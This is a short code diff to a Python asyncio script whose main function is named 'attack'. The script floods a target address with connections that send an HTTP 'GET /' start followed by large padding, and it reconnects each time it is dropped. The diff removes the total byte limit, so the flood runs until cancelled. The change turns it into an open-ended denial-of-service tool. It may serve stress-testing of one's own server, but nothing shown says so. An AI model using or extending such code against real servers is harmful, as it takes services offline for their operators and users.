@@ -11,31 +11,32 @@ BEGINNINGS = (
     (b"GET /", b"y" * 65_536),
 )
 _MOST_BYTES = 1_000_000_000
+"""Of one connection: memory of this machine is not to run out."""
 
 
 async def attack(address: str) -> None:
     """Until it is cancelled."""
-    sent = [0]
+    connections = [0]
     async with asyncio.TaskGroup() as group:
-        group.create_task(_tell(sent))
+        group.create_task(_tell(connections))
         for first, more in BEGINNINGS:
-            group.create_task(_send(address, first, more, sent))
+            group.create_task(_send(address, first, more, connections))
 
 
-async def _tell(sent: list[int]) -> None:
+async def _tell(connections: list[int]) -> None:
     while True:
         await asyncio.sleep(5)
-        print(f"  {sent[0] / 1e6:.0f} MB taken", flush=True)
+        print(f"  {connections[0]} connections", flush=True)
 
 
-async def _send(address: str, first: bytes, more: bytes, sent: list[int]) -> None:
+async def _send(address: str, first: bytes, more: bytes, connections: list[int]) -> None:
     """Comes back as soon as it is thrown out."""
-    while sent[0] < _MOST_BYTES:
+    while True:
         with suppress(OSError):
+            connections[0] += 1
             _, writer = await raw(address, SOURCES[0])
             writer.write(first)
-            while sent[0] < _MOST_BYTES:
+            for _ in range(_MOST_BYTES // len(more)):
                 writer.write(more)
                 await writer.drain()
-                sent[0] += len(more)
         await asyncio.sleep(0.01)
